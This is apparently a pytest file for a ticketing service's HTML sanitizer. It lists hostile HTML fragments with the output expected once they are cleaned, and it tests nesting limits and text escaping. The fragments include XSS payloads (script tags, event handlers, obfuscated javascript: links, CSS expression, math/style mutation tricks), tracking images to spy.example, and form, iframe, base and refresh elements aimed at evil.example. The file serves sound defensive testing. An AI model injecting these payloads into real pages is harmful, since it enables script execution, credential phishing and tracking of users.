"""What a stranger's HTML may bring to a browser: a table of attempts."""

import pytest

from services.ticketing.api.cleaning import DEEPEST, as_page, clean, deepest

IMAGES = {"logo@x": "/v1/articles/1/attachments/2"}
# fragment -> what stays
ATTEMPTS = {
    "<p>Hi <b>there</b></p>": "<p>Hi <b>there</b></p>",
    "<script>alert(1)</script>ok": "ok",
    "<ScRiPt src=//evil.example></ScRiPt>ok": "ok",
    "<p onclick=alert(1)>x</p>": "<p>x</p>",
    '<img src="x" onerror="alert(1)">': "<img>",
    '<img src="http://spy.example/p.gif">': "<img>",
    '<img src="//spy.example/p.gif">': "<img>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">': "<img>",
    '<img src="cid:logo@x">': '<img src="/v1/articles/1/attachments/2">',
    '<img src=" CID:logo%40x">': '<img src="/v1/articles/1/attachments/2">',
    '<img src="cid:other">': "<img>",
    '<img srcset="http://spy.example/p.gif 2x">': "<img>",
    '<a href="javascript:alert(1)">x</a>': '<a rel="noopener noreferrer nofollow">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>': '<a rel="noopener noreferrer nofollow">x</a>',
    '<a href="data:text/html,x">x</a>': '<a rel="noopener noreferrer nofollow">x</a>',
    '<a href="cid:logo@x">x</a>': '<a rel="noopener noreferrer nofollow">x</a>',
    '<a href="/v1/tickets">x</a>': '<a rel="noopener noreferrer nofollow">x</a>',
    '<a href="https://kunde.example/">x</a>':
        '<a href="https://kunde.example/" rel="noopener noreferrer nofollow">x</a>',
    '<a href="mailto:ana@kunde.example" target=_top>x</a>':
        '<a href="mailto:ana@kunde.example" rel="noopener noreferrer nofollow">x</a>',
    '<p style="color:red">x</p>': '<p style="color:red">x</p>',
    '<p style="background-image:url(http://spy.example)">x</p>': "<p>x</p>",
    '<p style="background:url(http://spy.example)">x</p>': "<p>x</p>",
    '<p style="color:red;position:fixed;top:0">x</p>': '<p style="color:red">x</p>',
    '<p style="width:expression(alert(1))">x</p>': "<p>x</p>",
    '<p style="color:\\75 rl(http://spy.example)">x</p>': "<p>x</p>",
    "<style>body{background:url(http://spy.example)}</style>ok": "ok",
    '<link rel=stylesheet href="http://spy.example">ok': "ok",
    '<meta http-equiv=refresh content="0;url=http://evil.example">ok': "ok",
    '<base href="http://evil.example/">ok': "ok",
    '<form action="http://evil.example"><input name=password></form>ok': "ok",
    '<iframe src="http://evil.example"></iframe>ok': "ok",
    '<object data="x"></object><embed src="x">ok': "ok",
    "<svg><script>alert(1)</script></svg>ok": "ok",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>ok": "ok",
    '<body background="http://spy.example/p.gif">ok</body>': "ok",
    '<table background="http://spy.example/p.gif"><tr><td>x</td></tr></table>':
        "<table><tbody><tr><td>x</td></tr></tbody></table>",
    "<video src=http://spy.example autoplay></video>ok": "ok",
    "<!--[if mso]><script>alert(1)</script><![endif]-->ok": "ok",
    '<p id="x" class="y" name="z">x</p>': "<p>x</p>",
    "<b>not closed": "<b>not closed</b>",
}  # fmt: skip


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_what_harms_is_taken_out_and_the_rest_stays(attempt: str) -> None:
    assert clean(attempt, IMAGES) == ATTEMPTS[attempt]


def test_what_is_nested_too_deep_is_not_read() -> None:
    assert clean("<div>" * (DEEPEST + 1), {}) is None
    assert clean("<div>" * DEEPEST, {}) is not None
    assert deepest("<div><p><p><p></div><div></div>") == 1, "paragraphs end by themselves"


def test_text_is_shown_as_text() -> None:
    assert as_page("<script>&") == "<pre>&lt;script&gt;&amp;</pre>"
